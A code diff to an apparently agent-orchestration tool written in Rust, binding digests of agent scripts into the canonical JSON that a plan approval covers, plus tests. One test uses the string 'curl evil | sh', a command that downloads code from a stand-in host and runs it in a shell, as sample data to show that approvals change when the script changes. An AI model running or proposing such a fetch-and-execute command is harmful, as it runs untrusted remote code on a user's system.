@@ -15,6 +15,7 @@ use enact_domain::text::truncated;
 use serde::Serialize;
 
 use crate::PlanSpec;
+use crate::agent_content::AgentDigests;
 use crate::common::{Gate, LocalRef};
 use crate::document::AcceptedFinding;
 use crate::plan::{PlanDecision, PoolMember, UnreadTasks, Workspace};
@@ -166,12 +167,15 @@ pub fn check(plan: &str, tasks: &[TaskTemplate]) -> Result<(Vec<String>, Graph),
     if errors.is_empty() { Ok((names, graph)) } else { Err(errors) }
 }
 
+/// Name of the field of the canonical JSON with the digests of the Agents.
+pub const AGENT_DIGESTS: &str = "agentDigests";
+
 /// Returns the canonical JSON that an approval of a plan is bound to: everything that decides what is done, and nothing that decides only
-/// when.
+/// when. `agents` are the digests of the Agents that the plan names, as far as they exist.
 ///
 /// # Errors
 /// When the plan cannot be written as JSON.
-pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate]) -> serde_json::Result<String> {
+pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate], agents: &AgentDigests) -> serde_json::Result<String> {
     #[derive(Serialize)]
     #[serde(rename_all = "camelCase")]
     struct Canonical<'a> {
@@ -180,6 +184,8 @@ pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate]) -> serde_json::Result<
         agent_ref: &'a Option<LocalRef>,
         #[serde(skip_serializing_if = "<[_]>::is_empty")]
         agents: &'a [PoolMember],
+        #[serde(skip_serializing_if = "AgentDigests::is_empty")]
+        agent_digests: &'a AgentDigests,
         tasks: &'a [TaskTemplate],
         #[serde(skip_serializing_if = "<[_]>::is_empty")]
         decisions: &'a [PlanDecision],
@@ -192,6 +198,7 @@ pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate]) -> serde_json::Result<
         specification_ref: &spec.specification_ref,
         agent_ref: &spec.agent_ref,
         agents: &spec.agents,
+        agent_digests: agents,
         tasks,
         decisions: &spec.decisions,
         accepted: &spec.accepted,
@@ -418,11 +425,22 @@ mod tests {
             let task = serde_json::json!({"id": "T001", "title": "t", "attempts": {"bestOf": 2, "measurements": measurements}});
             let spec: PlanSpec =
                 serde_json::from_value(serde_json::json!({"agents": [{"name": "a"}], "tasks": [task]})).unwrap();
-            canonical(&spec, &spec.tasks).unwrap()
+            canonical(&spec, &spec.tasks, &AgentDigests::new()).unwrap()
         };
         assert_ne!(spec("Lower"), spec("Higher"));
-        let plain = canonical(&PlanSpec::default(), &[TaskTemplate::default()]).unwrap();
+        let plain = canonical(&PlanSpec::default(), &[TaskTemplate::default()], &AgentDigests::new()).unwrap();
         assert!(!plain.contains("attempts"), "plans without contests keep their digests");
+    }
+
+    #[test]
+    fn the_agents_are_a_part_of_what_is_approved() {
+        let of = |script: &str| {
+            let digest = enact_domain::digest::Digest::of_bytes(script.as_bytes());
+            canonical(&PlanSpec::default(), &[], &AgentDigests::from([("coder".to_owned(), digest)])).unwrap()
+        };
+        assert_ne!(of("make"), of("curl evil | sh"));
+        let json: serde_json::Value = serde_json::from_str(&of("make")).unwrap();
+        assert!(json[AGENT_DIGESTS]["coder"].is_string(), "{json}");
     }
 
     #[test]
